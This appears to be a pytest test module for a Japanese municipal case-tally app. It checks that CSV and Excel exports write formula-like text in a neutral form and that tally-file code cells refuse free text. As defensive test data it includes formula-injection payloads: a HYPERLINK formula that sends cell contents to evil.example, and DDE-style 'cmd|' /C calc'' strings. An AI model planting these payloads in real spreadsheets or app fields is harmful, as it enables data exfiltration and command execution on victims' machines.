"""Exports carry no live formulas (issue 14, finding 6), and tally files
carry codes only.

The attacker types a formula (``=HYPERLINK(...)``) where the app takes
free text — a branch name, a login, a category label, an indicator name —
or into a key cell of a tally file, and waits for someone to open an
export in Excel. Every text cell that would start a formula is written
with a leading ``'``; readers of tally files refuse anything but the
contract's code shapes in code columns, naming the line."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select, update

from coordinator_app.cli import main
from coordinator_app.core import codes, counting
from coordinator_app.core.access import SignedIn
from coordinator_app.core.models import Branch, Category, TallyFile, TallyFileRow
from coordinator_app.interchange import importer, sheets, tally_file
from coordinator_app.interchange.ledger import LedgerError
from coordinator_app.services import accounts, admin, audit, consolidation
from coordinator_app.services import indicators as indicator_service
from tests.test_import import BRANCH_HEADER, ledger

ADMIN = SignedIn(0, "admin", "管理者", "admin", None, None, None)
CITY = SignedIn(0, "city1", "市 職員", "city_staff", None, None, None)
FY = 2026
LINK = '=HYPERLINK("https://evil.example/?d="&A1,"詳細を見る")'
ATTACKS = [LINK, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]
NAME_AND_PHONE = "山田 花子 090-1234-5678"

# Text that a spreadsheet would run as a formula, however it goes on.
formula_text = st.builds(lambda start, rest: start + rest, st.sampled_from(sheets.FORMULA_STARTS),
                         st.text(st.characters(blacklist_characters="\x00",
                                               blacklist_categories=("Cs",)), max_size=40))
HYPOTHESIS = settings(max_examples=25, deadline=None,
                      suppress_health_check=[HealthCheck.function_scoped_fixture])


def read_csv_cells(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def runs_as_formula(text: str) -> bool:
    return text.startswith(sheets.FORMULA_STARTS) and not re.fullmatch(r"-[0-9]+(\.[0-9]+)?", text)


def assert_no_formula_cell(rows: list[list[str]]) -> None:
    bad = [c for row in rows for c in row if runs_as_formula(c)]
    assert bad == []


# --- the rule ------------------------------------------------------------------------------


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.text(max_size=30), formula_text, st.integers(-5, 10**6)),
                max_size=8))
def test_a_written_row_reads_back_as_text_never_as_a_formula(row):
    data = sheets.csv_bytes(["a"], [row])
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    cells = back[0] if back else []
    if not row:
        return
    for original, written in zip(row, cells):
        original = str(original)
        assert not runs_as_formula(written)
        assert written == ("'" + original if runs_as_formula(original) else original)


# --- tally files: valid data unchanged, attacks written as text, free text refused -------


def plain_csv(rows: list[counting.TallyRow]) -> bytes:
    """The tally file as the contract describes it, written by hand."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(tally_file.HEADER)
    w.writerows(rows)
    return buf.getvalue().encode("utf-8-sig")


def test_tally_files_of_valid_data_are_byte_for_byte_the_contract(demo_db, tmp_path):
    with demo_db.session() as s:
        rows = counting.compute(s, FY)
    out = tmp_path / "t.csv"
    tally_file.write_csv(rows, out)
    assert len(rows) > 1000 and out.read_bytes() == plain_csv(rows)
    assert tally_file.read_csv(out) == rows


code = st.from_regex(codes.CODE_SHAPE, fullmatch=True)
branch_code = st.from_regex(codes.BRANCH_CODE_SHAPE, fullmatch=True)


@settings(max_examples=50, deadline=None)
@given(st.lists(st.builds(counting.TallyRow, st.integers(2000, 2100), st.just("2026-04"),
                          branch_code, code, code, st.one_of(st.just(""), code),
                          st.integers(0, 10**9)), max_size=20))
def test_any_contract_shaped_rows_are_written_unchanged(tmp_path_factory, rows):
    out = tmp_path_factory.mktemp("t") / "t.csv"
    tally_file.write_csv(rows, out)
    assert out.read_bytes() == plain_csv(rows)


def branch_file(db, tmp_path: Path, code: str = "01", name: str | None = None) -> Path:
    path = tmp_path / (name or f"tally_{code}_{FY}.csv")
    with db.session() as s:
        tally_file.write_csv(counting.compute(s, FY, [code]), path)
    return path


def with_cell(src: Path, dst: Path, column: int, value: str,
              breakdown: str = "category") -> tuple[Path, int]:
    """src with one cell of its first ``breakdown`` row replaced (as a
    person typing into the cell in Excel would); returns the file and the
    line of that row."""
    rows = list(csv.reader(io.StringIO(src.read_bytes().decode("utf-8-sig"), newline="")))
    i = next(i for i, r in enumerate(rows) if r[4] == breakdown)
    rows[i][column] = value
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    dst.write_bytes(buf.getvalue().encode("utf-8-sig"))
    return dst, i + 1


KEY, BRANCH = 5, 2


@pytest.fixture
def city_db(tmp_path):
    """The city office's own database: it knows the branches, holds no records."""
    from tests.conftest import open_test_db

    (tmp_path / "city").mkdir()
    database = open_test_db(str(tmp_path / "city" / "city.db"))
    with database.session() as s:
        s.add_all([Branch(code=c, name=f"テスト{c}支部") for c in ("01", "02")])
    yield database
    database.close()


def stored_files(db) -> tuple[int, int]:
    with db.session() as s:
        return (s.scalar(select(func.count()).select_from(TallyFile)),
                s.scalar(select(func.count()).select_from(TallyFileRow)))


@pytest.mark.parametrize("key", [NAME_AND_PHONE, LINK])
def test_consolidate_refuses_free_text_in_a_key_cell(demo_db, city_db, tmp_path, capsys, key):
    good = branch_file(demo_db, tmp_path, "02")
    bad, line = with_cell(branch_file(demo_db, tmp_path, "01"), tmp_path / "tally_01.csv", KEY,
                          key)
    out = tmp_path / "city.csv"
    assert main(["--db", str(city_db.path), "consolidate", str(good), str(bad),
                 "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert f"tally_01.csv: line {line}: key: コードの形ではありません" in err
    assert "090-1234-5678" not in err and "HYPERLINK" not in err  # not repeated anywhere
    assert not out.exists()
    # the consolidation screen's service: the file refused whole, the good one received
    result = consolidation.receive_files(city_db, CITY, [bad, good])
    assert len(result.errors) == 1 and f"line {line}: key:" in result.errors[0]
    assert [f.file_name for f in result.files] == [good.name]
    with city_db.session() as s:
        keys = set(s.scalars(select(TallyFileRow.breakdown_key)).all())
    assert key not in keys
    # alone: nothing stored at all
    consolidation.remove_file(city_db, CITY, result.files[0].id)
    assert consolidation.receive_files(city_db, CITY, [bad]).errors
    assert stored_files(city_db) == (0, 0)


@pytest.fixture
def source_file(demo_db, tmp_path):
    return branch_file(demo_db, tmp_path, "01", "src.csv")


@HYPOTHESIS
@given(st.text(min_size=1, max_size=40).filter(lambda t: not codes.is_code(t)))
def test_any_text_not_shaped_like_a_code_is_refused_in_a_key_cell(source_file, tmp_path, text):
    bad, _ = with_cell(source_file, tmp_path / "bad.csv", KEY, text)
    with pytest.raises(tally_file.TallyError, match=r"^bad\.csv: line \d+: "):
        tally_file.read_csv(bad)


@HYPOTHESIS
@given(st.text(min_size=1, max_size=40).filter(lambda t: not codes.is_branch_code(t)))
def test_any_text_not_shaped_like_a_branch_code_is_refused(source_file, tmp_path, text):
    bad, _ = with_cell(source_file, tmp_path / "bad.csv", BRANCH, text, breakdown="total")
    with pytest.raises(tally_file.TallyError, match=r"^bad\.csv: line \d+: "):
        tally_file.read_csv(bad)


def test_a_key_stored_before_the_check_is_exported_as_text(demo_db, city_db, tmp_path):
    """A file received by an older version with a formula in a key: the
    consolidated CSV still writes it as text."""
    consolidation.receive_files(city_db, CITY, [branch_file(demo_db, tmp_path, "01")])
    with city_db.session() as s:
        row = s.scalars(select(TallyFileRow).where(TallyFileRow.breakdown == "category")).first()
        s.execute(update(TallyFileRow).where(
            TallyFileRow.file_id == row.file_id, TallyFileRow.branch_code == row.branch_code,
            TallyFileRow.month == row.month, TallyFileRow.measure == row.measure,
            TallyFileRow.breakdown == row.breakdown,
            TallyFileRow.breakdown_key == row.breakdown_key).values(breakdown_key=LINK))
    out = tmp_path / "consolidated.csv"
    consolidation.export_consolidated(city_db, CITY, FY, out)
    rows = read_csv_cells(out)
    assert ["'" + LINK] == [r[5] for r in rows if "HYPERLINK" in r[5]]
    assert_no_formula_cell(rows)


# --- the monthly report workbook --------------------------------------------------------


def test_a_formula_branch_name_and_label_stay_text_in_the_xlsx(demo_db, tmp_path, capsys):
    import openpyxl

    with demo_db.session() as s:
        branch = s.scalar(select(Branch).where(Branch.code == "01"))
        life = s.scalar(select(Category).where(Category.code == "life"))
    admin.save_branch(demo_db, ADMIN, branch.id, "01", LINK)
    admin.save_category(demo_db, ADMIN, life.id, "life", "@SUM(1+1)*cmd|' /C calc'!A0")
    out = tmp_path / "t.xlsx"
    assert main(["--db", str(demo_db.path), "export", "tallies", "--fiscal-year", str(FY),
                 "--format", "xlsx", "--out", str(out)]) == 0, capsys.readouterr().err
    wb = openpyxl.load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    names = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert names and all(c.value == "'" + LINK and c.data_type == "s" for c in names)
    labels = [c.value for c in cells if isinstance(c.value, str) and "SUM" in c.value]
    assert labels and set(labels) == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert not any(c.hyperlink for c in cells)


# --- the audit trail ----------------------------------------------------------------------


def test_a_formula_login_is_text_in_the_audit_csv(demo_db, tmp_path):
    accounts.create_account(demo_db, "admin", "管理者", "admin", "password-admin")
    accounts.create_account(demo_db, LINK, "攻撃者", "coordinator", "password-1234", "01")
    accounts.authenticate(demo_db, LINK, "password-1234")
    out = tmp_path / "audit.csv"
    audit.export_csv(demo_db, ADMIN, audit.AuditFilter(), out)
    rows = read_csv_cells(out)
    assert "'" + LINK in [r[1] for r in rows]
    assert_no_formula_cell(rows)


@HYPOTHESIS
@given(st.lists(formula_text, min_size=1, max_size=4))
def test_any_formula_login_is_text_in_the_audit_csv(db, tmp_path, logins):
    for login in logins:
        audit.record(db, SignedIn(0, login, "x", "coordinator", None, None, None), "lock")
    out = tmp_path / "audit.csv"
    audit.export_csv(db, ADMIN, audit.AuditFilter(), out)
    rows = read_csv_cells(out)
    assert_no_formula_cell(rows)
    actors = [r[1] for r in rows[1:]]
    for login in logins:  # a login like "-0" is a number and stays as it is
        assert sheets.cell(login) in actors
        assert login in [a.removeprefix("'") for a in actors]


# --- the indicator file ------------------------------------------------------------------


def test_a_formula_indicator_name_is_text_in_the_indicator_csv(demo_db, tmp_path):
    from dataclasses import replace

    info = indicator_service.get_indicator(demo_db, ADMIN, "consultations_all")
    indicator_service.save_indicator(demo_db, ADMIN, replace(info, name=LINK))
    out = tmp_path / "indicators.csv"
    indicator_service.export_csv(demo_db, ADMIN, FY, out)
    rows = read_csv_cells(out)
    assert [r[2] for r in rows if "HYPERLINK" in r[2]] == ["'" + LINK]
    assert_no_formula_cell(rows)


# --- codes typed in the app have the shape too -----------------------------------------


@pytest.mark.parametrize("bad", ["-01", "=1+1", "@1", "+1", "上尾", "0 1", "'01"])
def test_branch_codes_that_a_tally_file_cannot_carry_are_refused(demo_db, bad):
    with pytest.raises(ValueError, match="支部コードは"):
        admin.save_branch(demo_db, ADMIN, None, bad, "新しい支部")
    with pytest.raises(LedgerError, match="line 2: code: 支部コードは"):
        importer.import_ledger(demo_db, "branches", ledger(BRANCH_HEADER, [bad, "新しい支部", "", "", ""]))
    with demo_db.session() as s:
        assert s.scalar(select(Branch.id).where(Branch.name == "新しい支部")) is None
